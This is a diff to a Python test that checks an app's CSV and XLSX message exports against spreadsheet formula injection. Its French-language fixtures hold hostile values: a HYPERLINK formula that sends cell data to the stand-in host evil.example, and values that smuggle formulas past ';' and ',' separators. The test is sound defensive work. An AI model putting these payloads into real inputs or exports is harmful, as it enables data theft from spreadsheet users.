@@ -94,10 +94,16 @@ def test_exports_never_turn_a_message_into_a_formula(client, recipient, admin_cl
     attack = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
     post(client, name=attack, message="@SUM(1+1)")
     post(client, email="autre@example.fr", name="-2+3", message="Bonjour = merci")
+    post(client, email="trois@example.fr", name="Jo;=1+1", message="a,=2+2")
     export = admin_client.get("/admin/messages/?export=csv")
-    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
-    assert {r["Nom"] for r in rows} == {"'" + attack, "'-2+3"}
-    assert {r["Message"] for r in rows} == {"'@SUM(1+1)", "Bonjour = merci"}
+    text = b"".join(export.streaming_content).decode()
+    # A French spreadsheet also splits on « ; »: no cell may then start a formula.
+    for separator in ";,":
+        for row in csv.reader(io.StringIO(text), delimiter=separator):
+            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert {r["Nom"] for r in rows} == {"'" + attack, "'-2+3", "Jo;'=1+1"}
+    assert {r["Message"] for r in rows} == {"'@SUM(1+1)", "Bonjour = merci", "a,'=2+2"}
     workbook = openpyxl.load_workbook(
         io.BytesIO(admin_client.get("/admin/messages/?export=xlsx").getvalue())
     )
